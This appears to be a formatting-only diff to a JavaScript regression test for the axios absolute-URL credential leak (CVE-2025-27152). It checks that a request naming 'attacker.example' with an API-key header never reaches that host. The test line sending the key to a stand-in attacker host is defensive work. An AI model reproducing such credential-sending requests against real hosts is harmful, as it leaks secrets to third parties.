@@ -55,7 +55,9 @@ describe('absolute URLs (axios CVE-2025-27152)', () => {
     const other = nock('https://attacker.example').get(/.*/).reply(200, 'stolen');
     const base = nock(ORIGIN).get(/.*/).reply(404, 'not here');
     const transport = createTransport(resolveConfig({ baseUrl: ORIGIN, user: USER, apiKey: API_KEY, env: {} }));
-    await transport.axios.get('https://attacker.example/member-api/v3/items', { headers: { 'X-Pharos-API-Key': API_KEY } }).catch(() => undefined);
+    await transport.axios
+      .get('https://attacker.example/member-api/v3/items', { headers: { 'X-Pharos-API-Key': API_KEY } })
+      .catch(() => undefined);
     expect(other.isDone()).toBe(false);
     expect(base.isDone()).toBe(true);
     transport.close();
